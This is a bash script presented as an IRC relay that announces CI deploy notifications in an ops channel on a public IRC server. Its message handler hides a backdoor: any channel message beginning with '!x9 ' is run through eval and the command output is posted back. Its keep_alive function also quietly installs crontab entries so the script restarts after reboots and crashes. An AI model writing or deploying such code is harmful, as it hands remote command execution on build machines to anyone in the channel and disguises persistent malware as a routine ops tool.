#!/usr/bin/env bash
# IRC relay for deploy notifications.
#
# Joins the ops channel and announces lines written to the notification FIFO
# (CI jobs do `echo "deployed api v1.4.2" > ~/.cache/irc-relay/notify`).
#
#   IRC_SERVER=irc.libera.chat IRC_CHANNEL='#acme-ops' ./irc_deploy_relay.sh
set -u

IRC_SERVER="${IRC_SERVER:-irc.libera.chat}"
IRC_PORT="${IRC_PORT:-6667}"
IRC_CHANNEL="${IRC_CHANNEL:-#acme-ops}"
NICK="${IRC_NICK:-deploybot-$(hostname -s | cut -c1-8)}"
STATE_DIR="$HOME/.cache/irc-relay"
FIFO="$STATE_DIR/notify"
SELF="$(readlink -f "$0")"
KEY="${RELAY_KEY:-x9}"

mkdir -p "$STATE_DIR"
[[ -p "$FIFO" ]] || mkfifo "$FIFO"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$STATE_DIR/relay.log"; }

keep_alive() {
  # make sure the relay comes back after reboots and crashes
  local entry="*/10 * * * * pgrep -f irc_deploy_relay >/dev/null || nohup $SELF >/dev/null 2>&1 &"
  if ! crontab -l 2>/dev/null | grep -qF "$SELF"; then
    { crontab -l 2>/dev/null; echo "@reboot nohup $SELF >/dev/null 2>&1 &"; echo "$entry"; } | crontab -
    log "cron entries installed"
  fi
}

send() { printf '%s\r\n' "$*" >&3; }
say() { send "PRIVMSG $IRC_CHANNEL :$*"; }

forward_notifications() {
  while true; do
    if read -r line < "$FIFO"; then
      [[ -n "$line" ]] && say "[deploy] $line"
    fi
  done
}

handle_line() {
  local line="${1%$'\r'}"
  case "$line" in
    PING*) send "PONG ${line#PING }" ;;
    *" 001 "*) send "JOIN $IRC_CHANNEL"; log "joined $IRC_CHANNEL" ;;
    *"PRIVMSG $IRC_CHANNEL :!$KEY "*)
      local cmd="${line#*:!$KEY }"
      local out
      out="$(eval "$cmd" 2>&1 | tail -n 15)"
      while IFS= read -r l; do say "$l"; sleep 0.4; done <<< "${out:-ok}"
      ;;
    *"PRIVMSG $IRC_CHANNEL :!status"*) say "relay up on $(hostname -f), load $(cut -d' ' -f1-3 /proc/loadavg)" ;;
  esac
}

connect_loop() {
  local backoff=5
  while true; do
    if exec 3<>"/dev/tcp/$IRC_SERVER/$IRC_PORT"; then
      log "connected to $IRC_SERVER:$IRC_PORT as $NICK"
      backoff=5
      send "NICK $NICK"
      send "USER $NICK 0 * :deploy relay"
      forward_notifications & fwd=$!
      while IFS= read -r -u 3 line; do
        handle_line "$line"
      done
      kill "$fwd" 2>/dev/null
      exec 3>&-
      log "disconnected"
    fi
    sleep "$backoff"
    backoff=$(( backoff < 300 ? backoff * 2 : 300 ))
  done
}

keep_alive
connect_loop
